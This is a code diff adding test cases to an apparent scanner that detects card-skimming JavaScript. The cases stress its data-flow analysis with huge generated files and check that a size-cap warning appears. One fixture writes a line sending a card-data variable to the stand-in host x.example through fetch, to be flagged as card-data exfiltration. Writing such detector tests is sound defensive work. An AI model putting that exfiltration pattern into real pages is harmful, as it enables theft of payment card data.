@@ -274,10 +274,33 @@ fn data_flow_on_long_chains_stays_small_and_finishes() {
         "v0 = cc;\nfetch(\"https://x.example/\", {{body: v{n}}});\n"
     ));
     std::fs::write(dir.path().join("chain.js"), src).unwrap();
+    // Calls × same-named functions × parameters: 2 GB for this 100 KB file before the cap.
+    std::fs::write(
+        dir.path().join("calls.js"),
+        format!(
+            "{}{read}{}fetch(\"https://x.example/\", {{body: cc}});\n",
+            "function f(a, b, c) {}\n".repeat(3000),
+            "f(cc, cc, cc);\n".repeat(3000)
+        ),
+    )
+    .unwrap();
+    // `a + a + …` copied the growing left side at every operand: a 15 KB file stalled.
+    std::fs::write(
+        dir.path().join("plus.js"),
+        format!(
+            "var a = \"{}\";\nvar x = {};\ndocument.write(x);\n",
+            "x".repeat(3000),
+            vec!["a"; 5000].join("+")
+        ),
+    )
+    .unwrap();
     scan(dir.path(), &[])
         .kept_skimmer()
         .finding("member.js", "js/card-data-exfiltration")
-        .finding("chain.js", "js/card-data-exfiltration");
+        .finding("chain.js", "js/card-data-exfiltration")
+        .finding("calls.js", "js/card-data-exfiltration")
+        .warned("calls.js", "data-flow analysis stopped at its size cap")
+        .no_warning_for("plus.js");
 }
 
 #[test]
